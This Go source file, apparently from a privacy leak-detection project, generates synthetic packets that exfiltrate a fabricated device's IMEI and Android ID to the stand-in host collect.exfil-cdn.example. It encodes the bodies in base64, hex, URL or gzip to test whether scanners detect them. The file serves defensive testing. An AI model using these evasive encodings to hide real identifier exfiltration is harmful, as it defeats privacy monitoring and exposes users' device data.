package trafficgen

// Adversarial leak variants: the same identifier exfiltration the plain
// profiles emit, but with the leaking body transformed the way evasive
// apps actually ship it — base64, hex, or URL percent-encoding, or gzip
// compression. These packets are the test bed for decode-view scanning:
// a cleartext token signature misses every one of them unless the
// matching signature opts into the corresponding view.

import (
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"math/rand"
	"net/url"

	"leaksig/internal/android"
	"leaksig/internal/httpmodel"
	"leaksig/internal/ipaddr"
	"leaksig/internal/signature"
)

// Encoding names one body transformation an adversarial app applies
// before exfiltrating.
type Encoding string

const (
	EncodingClear  Encoding = "clear"
	EncodingBase64 Encoding = "base64"
	EncodingHex    Encoding = "hex"
	EncodingURL    Encoding = "url"
	EncodingGzip   Encoding = "gzip"
)

// Encodings lists every adversarial encoding, cleartext first.
func Encodings() []Encoding {
	return []Encoding{EncodingClear, EncodingBase64, EncodingHex, EncodingURL, EncodingGzip}
}

// AdversarialConfig configures GenerateAdversarial. Zero values select
// the noted defaults.
type AdversarialConfig struct {
	Seed        int64
	PerEncoding int             // leaking packets per encoding (default 8)
	Device      *android.Device // nil fabricates one from Seed
}

// AdversarialSet is a labeled adversarial capture: Packets[i] leaks the
// device identifiers under Encodings[i].
type AdversarialSet struct {
	Device    *android.Device
	Packets   []*httpmodel.Packet
	Encodings []Encoding
}

// adversarialHost is the fake tracker the adversarial profiles beacon to.
const adversarialHost = "collect.exfil-cdn.example"

// encodeLeakBody transforms one cleartext leak payload.
func encodeLeakBody(enc Encoding, clear []byte) []byte {
	switch enc {
	case EncodingBase64:
		out := make([]byte, base64.StdEncoding.EncodedLen(len(clear)))
		base64.StdEncoding.Encode(out, clear)
		return append([]byte("p="), out...)
	case EncodingHex:
		out := make([]byte, hex.EncodedLen(len(clear)))
		hex.Encode(out, clear)
		return append([]byte("p="), out...)
	case EncodingURL:
		// Escape aggressively: every '=' and '&' of the cleartext form
		// hides behind %XX, so the raw scan sees no identifier tokens.
		return []byte("p=" + url.QueryEscape(string(clear)))
	case EncodingGzip:
		var b bytes.Buffer
		zw := gzip.NewWriter(&b)
		zw.Write(clear)
		zw.Close()
		return b.Bytes()
	}
	return clear
}

// GenerateAdversarial fabricates PerEncoding leaking POSTs per encoding,
// deterministically from Seed. Every packet carries the device's IMEI
// and Android ID in its body, transformed per its encoding; per-packet
// jitter (sequence numbers, random session tokens) keeps the corpus from
// being byte-identical.
func GenerateAdversarial(cfg AdversarialConfig) *AdversarialSet {
	if cfg.PerEncoding <= 0 {
		cfg.PerEncoding = 8
	}
	rng := rand.New(rand.NewSource(cfg.Seed))
	dev := cfg.Device
	if dev == nil {
		carriers := android.Carriers()
		dev = android.NewDevice(rng, carriers[rng.Intn(len(carriers))])
	}
	out := &AdversarialSet{Device: dev}
	id := int64(1)
	ip := ipaddr.FromOctets(203, 0, 113, 77)
	for _, enc := range Encodings() {
		for i := 0; i < cfg.PerEncoding; i++ {
			clear := fmt.Sprintf("imei=%s&aid=%s&seq=%d&sess=%08x",
				dev.IMEI, dev.AndroidID, i, rng.Uint32())
			p := httpmodel.Post(adversarialHost, "/v1/collect").
				ID(id).
				App("com.adversarial.beacon").
				Dest(ip, 80).
				UserAgent("Dalvik/1.6.0").
				Header("Content-Type", "application/octet-stream").
				Body(encodeLeakBody(enc, []byte(clear))).
				Build()
			out.Packets = append(out.Packets, p)
			out.Encodings = append(out.Encodings, enc)
			id++
		}
	}
	return out
}

// AdversarialSignature builds the cleartext identifier signature for the
// device, opted into the named views: a conjunction of the IMEI and
// Android ID constrained to the adversarial host. With every view
// enabled it catches all encodings; with none it catches only cleartext.
func AdversarialSignature(dev *android.Device, views []string) *signature.Signature {
	return &signature.Signature{
		Tokens:     []string{"imei=" + dev.IMEI, "aid=" + dev.AndroidID},
		HostSuffix: "exfil-cdn.example",
		Views:      append([]string(nil), views...),
	}
}
